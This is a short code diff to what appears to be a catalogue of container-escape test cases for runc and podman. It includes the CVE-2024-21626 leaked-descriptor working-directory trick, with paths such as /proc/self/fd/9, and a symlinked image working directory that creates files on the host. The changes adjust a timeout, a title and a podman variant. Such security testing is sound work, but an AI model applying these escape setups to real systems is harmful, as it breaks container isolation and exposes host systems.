@@ -56,7 +56,7 @@ export const STARTING: readonly Attack[] = [
         args: ["/proc/self/exe"],
         env,
         executable: victim,
-        killAfter: 1500,
+        killAfter: 3000,
       });
       await new Promise((end) => setTimeout(end, 300));
       return evidence;
@@ -140,7 +140,7 @@ export const STARTING: readonly Attack[] = [
   {
     id: "CVE-2024-21626",
     engine: "runc",
-    title: "the working directory is a descriptor of the host that was left open",
+    title: "the working directory is a descriptor of the host that the engine or its caller left open",
     prepare: ({ rootfs }) => link("/proc/self/fd/9", `${rootfs}/work`),
     order: () =>
       ["/proc/self/fd/9", "/work", "/proc/self/fd/8", "/proc/self/fd/7"].map((cwd) => ({
@@ -245,7 +245,10 @@ export const STARTING: readonly Attack[] = [
     engine: "podman",
     title: "the working directory of the image lies behind a link: it is made on the host",
     prepare: ({ host, rootfs }) => link(host, `${rootfs}/data`),
-    order: () => ({ args: sh("true"), cwd: "/data/made" }),
+    order: (_, { has }) =>
+      has.includes("images")
+        ? { args: sh("true"), image: { WorkingDir: "/data/made" } }
+        : { args: sh("true"), cwd: "/data/made" },
     succeeded: ({ host }) => exists(`${host}/made`),
   },
   {
